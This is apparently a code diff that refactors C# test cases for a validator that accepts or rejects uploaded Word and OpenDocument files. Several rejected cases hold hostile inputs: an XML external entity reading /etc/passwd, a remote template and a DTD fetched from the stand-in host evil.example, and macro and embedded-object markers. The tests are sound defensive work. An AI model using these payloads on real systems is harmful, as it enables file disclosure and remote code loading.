@@ -12,7 +12,7 @@ public class FileContentTests
         { "a Word document", ".docx", Sent.Word() },
         { "an OpenDocument text", ".odt", Sent.OpenDocument() },
         { "a Word document that speaks of document types", ".docx", Sent.Word(("word/document.xml", "<document>&lt;!DOCTYPE html&gt;</document>")) },
-        { "a Word document with a link", ".docx", Sent.Word(("word/_rels/document.xml.rels", """<Relationship Type="x/hyperlink" TargetMode="External" Target="https://example.org"/>""")) },
+        { "a Word document with a link", ".docx", Sent.WordWith("hyperlink", "https://example.org") },
     };
 
     public static TheoryData<string, string, MemoryStream> Bad => new()
@@ -38,7 +38,7 @@ public class FileContentTests
         { "a macro document under another name", ".docx", Sent.Word(("[Content_Types].xml", """<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>""")) },
         { "a Word document with controls", ".docx", Sent.Word(("word/activeX/activeX1.xml", "x")) },
         { "a Word document with an embedded object", ".docx", Sent.Word(("word/embeddings/oleObject1.bin", "x")) },
-        { "a Word document with a template from elsewhere", ".docx", Sent.Word(("word/_rels/settings.xml.rels", """<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"/>""")) },
+        { "a Word document with a template from elsewhere", ".docx", Sent.Word(("word/_rels/settings.xml.rels", Sent.Rels(("attachedTemplate", "https://evil.example/t.dotm", "External")))) },
         { "a Word document with entities", ".docx", Sent.Word(("word/document.xml", """<?xml version="1.0"?><!-- a --><!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY x SYSTEM "file:///etc/passwd">]><document>&a;&x;</document>""")) },
         { "a Word document whose relations have a document type", ".docx", Sent.Word(("_rels/.rels", """<!DOCTYPE Relationships SYSTEM "https://evil.example/r.dtd"><Relationships/>""")) },
         { "an OpenDocument text with Basic", ".odt", Sent.OpenDocument(("Basic/Standard/Module1.xml", "x")) },
